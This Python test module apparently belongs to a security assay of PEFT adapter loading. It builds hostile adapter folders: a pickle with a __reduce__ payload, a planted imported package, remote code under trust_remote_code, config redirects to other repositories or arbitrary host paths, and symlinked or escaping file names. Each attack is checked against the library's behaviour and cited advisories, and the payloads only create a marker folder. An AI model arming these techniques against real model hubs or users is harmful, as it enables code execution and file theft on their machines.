"""Attacks that reach out of the adapter: pickles, imports, other repositories, another base."""

import contextlib
import json
import os
import pickle
import sys
import warnings
from pathlib import Path

from attacks.adapter.museum import (
    CONFIG,
    INTAKE,
    UNREAD,
    WEIGHTS,
    Exhibit,
    base,
    edit_config,
    load_plainly,
    logits,
    lora,
    make_tokenizer,
    opened,
    save,
)

RCE = "https://nvd.nist.gov/vuln/detail/CVE-2025-32434"
MEMORY = "https://nvd.nist.gov/vuln/detail/CVE-2026-24747"
RESUME = "https://nvd.nist.gov/vuln/detail/CVE-2026-1839"
AUTO_MAPPING = "https://github.com/huggingface/peft/pull/3090"
MEGATRON = "https://github.com/huggingface/transformers/pull/46482"
KERNEL = "https://nvd.nist.gov/vuln/detail/CVE-2026-4372"
TOKENIZER = "https://github.com/huggingface/peft/issues/2888"


class _Payload:
    """What a pickle runs when it is read: here it would make a folder."""

    def __init__(self, mark: Path) -> None:
        self.mark = mark

    def __reduce__(self):
        return os.mkdir, (str(self.mark),)


def _as_pickle(folder: Path) -> None:
    import torch
    from safetensors.torch import load_file

    torch.save(load_file(folder / WEIGHTS), folder / "adapter_model.bin")


def build_pickled_weights(folder: Path) -> None:
    _as_pickle(folder)
    (folder / WEIGHTS).unlink()


def unpickles_them(folder: Path) -> None:
    import torch

    with opened(lambda path: path.endswith("adapter_model.bin")) as found:
        model, said = load_plainly(folder)
    assert said == []
    assert found
    assert not torch.equal(logits(model), logits(base()))


def build_code_in_the_weights(folder: Path) -> None:
    (folder / WEIGHTS).unlink()
    (folder / "adapter_model.bin").write_bytes(pickle.dumps(_Payload(folder.parent / "ran")))


def runs_where_nothing_stops_it(folder: Path) -> None:
    """PEFT asks for weights_only and refuses; whoever unpickles plainly runs it."""
    try:
        load_plainly(folder)
    except pickle.UnpicklingError:
        assert not (folder.parent / "ran").exists()
    else:
        raise AssertionError("it was loaded")
    pickle.loads((folder / "adapter_model.bin").read_bytes())
    (folder.parent / "ran").rmdir()


def build_pickle_beside_the_weights(folder: Path) -> None:
    _as_pickle(folder)


def prefers_the_safetensors(folder: Path) -> None:
    with opened(lambda path: path.endswith("adapter_model.bin")) as found:
        assert load_plainly(folder)[1] == []
    assert found == []


def build_pickles_of_training(folder: Path) -> None:
    for name in ("training_args.bin", "rng_state.pth", "optimizer.pt"):
        (folder / name).write_bytes(pickle.dumps(_Payload(folder.parent / "ran")))


def does_not_open_them(folder: Path) -> None:
    with opened(lambda path: path.endswith((".bin", ".pth", ".pt"))) as found:
        load_plainly(folder)
    assert found == []


def build_foreign_library(folder: Path) -> None:
    edit_config(folder, auto_mapping={"parent_library": "evilx", "base_model_class": "Model"}, task_type=None)


def is_not_on_the_list(folder: Path) -> None:
    import peft

    try:
        peft.AutoPeftModel.from_pretrained(folder)
    except ValueError as error:
        assert "evilx" in str(error)
    else:
        raise AssertionError("it was loaded")


def build_planted_package(folder: Path) -> None:
    """Somebody who clones the repository and runs in it has its folders on sys.path."""
    edit_config(folder, megatron_config={"hidden_size": 16}, megatron_core="megatron.evil")
    (folder / "megatron").mkdir()
    (folder / "megatron" / "evil.py").write_text("import builtins\nbuiltins.peft_assay_museum = True\n")


def imports_it(folder: Path) -> None:
    import builtins

    sys.path.insert(0, str(folder))
    try:
        with contextlib.suppress(AttributeError):  # what comes after the import
            load_plainly(folder)
        assert builtins.__dict__.pop("peft_assay_museum", False)
    finally:
        sys.path.remove(str(folder))
        for name in [name for name in sys.modules if name.split(".")[0] == "megatron"]:
            del sys.modules[name]


def _evil_base(at: Path) -> None:
    """A base of the same shapes with other weights."""
    model = base()
    model.lm_head.weight.data.fill_(1.0)
    model.save_pretrained(at)


def build_base_of_its_own_choice(folder: Path) -> None:
    _evil_base(folder.parent / "evil")
    edit_config(folder, base_model_name_or_path=str(folder.parent / "evil"))


def loads_the_named_base(folder: Path) -> None:
    import peft

    with warnings.catch_warnings():
        warnings.simplefilter("error")
        warnings.simplefilter("ignore", FutureWarning)
        loaded = peft.AutoPeftModelForCausalLM.from_pretrained(folder)
    assert bool((loaded.base_model.model.lm_head.weight == 1).all())


def keeps_the_context_s_base(folder: Path) -> None:
    """Our loader is given a base and bytes; it opens nothing that the adapter names."""
    import torch

    from peft_assay_loading.load import attach, detach

    model = base()
    with opened(lambda path: "evil" in path or path.startswith(str(folder))) as found:
        wrapped = attach(model, (folder / CONFIG).read_bytes(), (folder / WEIGHTS).read_bytes())
    assert [path for path in found if not path.endswith((CONFIG, WEIGHTS))] == []
    assert torch.equal(wrapped.base_model.model.lm_head.weight, base().lm_head.weight)
    assert detach(wrapped) is model


def build_code_with_the_named_base(folder: Path) -> None:
    at = folder.parent / "evil"
    _evil_base(at)
    config = json.loads((at / "config.json").read_text())
    config |= {"model_type": "evil", "auto_map": {"AutoConfig": "evil.Evil", "AutoModelForCausalLM": "evil.Model"}}
    (at / "config.json").write_text(json.dumps(config))
    (at / "evil.py").write_text(f"import os\nos.mkdir({str(folder.parent / 'ran')!r})\nraise SystemError\n")
    edit_config(folder, base_model_name_or_path=str(at))


def runs_it_where_remote_code_is_trusted(folder: Path) -> None:
    """trust_remote_code was said of the adapter; the code is the base's that the adapter names."""
    import peft
    import transformers.dynamic_module_utils as dynamic

    before, dynamic.HF_MODULES_CACHE = dynamic.HF_MODULES_CACHE, str(folder.parent / "modules")
    path = list(sys.path)
    try:
        with contextlib.suppress(SystemError):
            peft.AutoPeftModelForCausalLM.from_pretrained(folder, trust_remote_code=True)
        assert (folder.parent / "ran").is_dir()
        (folder.parent / "ran").rmdir()
    finally:
        dynamic.HF_MODULES_CACHE, sys.path[:] = before, path


def build_base_inside_the_adapter(folder: Path) -> None:
    _evil_base(folder)


def prefers_the_base_inside(folder: Path) -> None:
    import transformers

    with warnings.catch_warnings():
        warnings.simplefilter("error")
        warnings.simplefilter("ignore", FutureWarning)
        loaded = transformers.AutoModelForCausalLM.from_pretrained(folder)
    assert bool((loaded.lm_head.weight == 1).all())


def build_kernel_in_a_configuration(folder: Path) -> None:
    (folder / "config.json").write_text('{"model_type": "llama", "_attn_implementation_internal": "attacker/kernel"}')


def _instead(folder: Path, **fields) -> None:
    """A configuration of these fields alone, and weights that nobody can object to."""
    import torch
    from safetensors.torch import save_file

    (folder / CONFIG).write_text(json.dumps({"task_type": "CAUSAL_LM", "base_model_name_or_path": "zoo/base"} | fields))
    save_file({_FIRST[fields["peft_type"]]: torch.zeros(1)}, folder / WEIGHTS)


_FIRST = {
    "XLORA": "base_model.internal_xlora_classifier.layers.0.weight",
    "SHADOW": "base_model.shadow_backbone.norm.weight",
}


def build_experts_elsewhere(folder: Path) -> None:
    save(folder.parent / "attacker", lora())
    _instead(folder, peft_type="XLORA", adapters={"0": str(folder.parent / "attacker")}, hidden_size=16)


def build_shadow_elsewhere(folder: Path) -> None:
    _evil_base(folder.parent / "attacker")
    _instead(folder, peft_type="SHADOW", shadow_model=str(folder.parent / "attacker"))


def reads_the_other_folder(folder: Path) -> None:
    """The name may as well be a repository: it is fetched then."""
    model = base()
    model.config.use_cache = False  # X-LoRA asks for it
    with opened(lambda path: str(folder.parent / "attacker") in path) as found, contextlib.suppress(Exception):
        load_plainly(folder, model)
    assert found


def build_tokenizer_elsewhere(folder: Path) -> None:
    import peft

    for path in folder.iterdir():
        path.unlink()
    make_tokenizer(folder.parent / "attacker", 32)
    save(folder, peft.PromptTuningConfig(task_type="CAUSAL_LM", num_virtual_tokens=4))
    edit_config(
        folder, prompt_tuning_init="TEXT", prompt_tuning_init_text="w1 w2",
        tokenizer_name_or_path=str(folder.parent / "attacker"), inference_mode=False,
    )  # fmt: skip


def asks_for_the_tokenizer(folder: Path) -> None:
    import peft

    with opened(lambda path: str(folder.parent / "attacker") in path) as found, warnings.catch_warnings():
        warnings.simplefilter("ignore")
        peft.get_peft_model(base(), peft.PeftConfig.from_pretrained(folder))
    assert found


def build_path_to_unpickle(folder: Path) -> None:
    import peft

    for path in folder.iterdir():
        path.unlink()
    save(folder, peft.MultitaskPromptTuningConfig(task_type="CAUSAL_LM", num_virtual_tokens=4, num_tasks=2))
    (folder.parent / "secret").write_text("not an adapter's business")
    edit_config(
        folder, prompt_tuning_init="EXACT_SOURCE_TASK",
        prompt_tuning_init_state_dict_path=str(folder.parent / "secret"),
    )  # fmt: skip


def opens_the_path(folder: Path) -> None:
    with opened(lambda path: path.endswith("secret")) as found:
        try:
            load_plainly(folder)
        except pickle.UnpicklingError:
            pass
        else:
            raise AssertionError("it was loaded")
    assert found


def build_linked_weights(folder: Path) -> None:
    (folder / WEIGHTS).rename(folder.parent / "elsewhere")
    (folder / WEIGHTS).symlink_to("../elsewhere")


def follows_the_link(folder: Path) -> None:
    assert load_plainly(folder)[1] == []


def build_escaping_archive_name(folder: Path) -> None:
    """A resolver that joins a name of the adapter to a path: what a server's request brings, here a file's name."""
    (folder / "\u202e..").write_text("x")


REDIRECTS = "config.redirects"
EXHIBITS = (
    Exhibit(
        "2.1", build_pickled_weights, "unpickles them, restricted to weights", "pickle",
        {"weights.pickle_files": ("adapter_model.bin",)}, unpickles_them, silent=True, advisory=(RCE, MEMORY),
    ),
    Exhibit(
        "2.1", build_code_in_the_weights, "UnpicklingError; a plain unpickler runs it", "pickle",
        {"weights.pickle_files": ("adapter_model.bin",)}, runs_where_nothing_stops_it, advisory=(RCE, MEMORY),
    ),
    Exhibit(
        "2.1", build_pickle_beside_the_weights, "not opened: the safetensors is preferred", "pickle",
        {"weights.pickle_files": ("adapter_model.bin",)}, prefers_the_safetensors, advisory=(RCE,),
    ),
    Exhibit(
        "2.2", build_pickles_of_training, "not opened; a trainer that resumes from the folder does", "pickle",
        {"weights.pickle_files": "training_args.bin"}, does_not_open_them, advisory=(RESUME,),
    ),
    Exhibit(
        "2.3", build_foreign_library, "ValueError: not on PEFT's list", "redirects", {REDIRECTS: ("auto_mapping",)},
        is_not_on_the_list, advisory=(AUTO_MAPPING,),
    ),
    Exhibit(
        "2.4", build_planted_package, "imports the package that the repository brings", "redirects",
        {REDIRECTS: ("megatron_config", "megatron_core")}, imports_it, silent=True, advisory=(MEGATRON,),
    ),
    Exhibit(
        "2.5", build_base_of_its_own_choice, "AutoPeftModel serves the base that the adapter names", UNREAD,
        {"base.claims": "local-path"}, loads_the_named_base, silent=True, ours=keeps_the_context_s_base,
    ),
    Exhibit(
        "2.5", build_code_with_the_named_base, "trust_remote_code for the adapter runs code of the base it names",
        UNREAD, {"base.claims": "local-path"}, runs_it_where_remote_code_is_trusted, silent=True,
        ours=keeps_the_context_s_base,
    ),
    Exhibit(
        "2.6", build_base_inside_the_adapter, "AutoModel serves the base inside, not the one that is named", UNREAD,
        {"artifact.companions": "config.json: embedded-model-config"}, prefers_the_base_inside, silent=True,
        ours=keeps_the_context_s_base,
    ),
    Exhibit(
        "2.7", build_kernel_in_a_configuration, "mended in transformers 5.3", UNREAD,
        {"artifact.companions": "config.json: code-by-reference (_attn_implementation_internal)"},
        ours=keeps_the_context_s_base, advisory=(KERNEL,),
    ),
    Exhibit(
        "2.8", build_experts_elsewhere, "fetches the other repository", "redirects", {REDIRECTS: "adapters"},
        reads_the_other_folder, silent=True,
    ),
    Exhibit(
        "2.8", build_shadow_elsewhere, "fetches the other repository", "redirects", {REDIRECTS: "shadow_model"},
        reads_the_other_folder, silent=True,
    ),
    Exhibit(
        "2.9", build_tokenizer_elsewhere, "get_peft_model fetches it", "redirects",
        {REDIRECTS: "tokenizer_name_or_path"}, asks_for_the_tokenizer, silent=True, advisory=(TOKENIZER,),
    ),
    Exhibit(
        "2.10", build_path_to_unpickle, "opens any path of the host and unpickles it", "redirects",
        {REDIRECTS: "prompt_tuning_init_state_dict_path"}, opens_the_path,
    ),
    Exhibit("2.30", build_linked_weights, "follows it", INTAKE, {"refusal": "symbolic link"}, follows_the_link,
            silent=True),
    Exhibit(
        "2.36", build_escaping_archive_name, "servers join names to paths", INTAKE, {"refusal": "not safe"},
        advisory=("https://github.com/vllm-project/vllm/pull/46287",
                  "https://github.com/NVIDIA/TensorRT-LLM/pull/13391"),
    ),
)  # fmt: skip
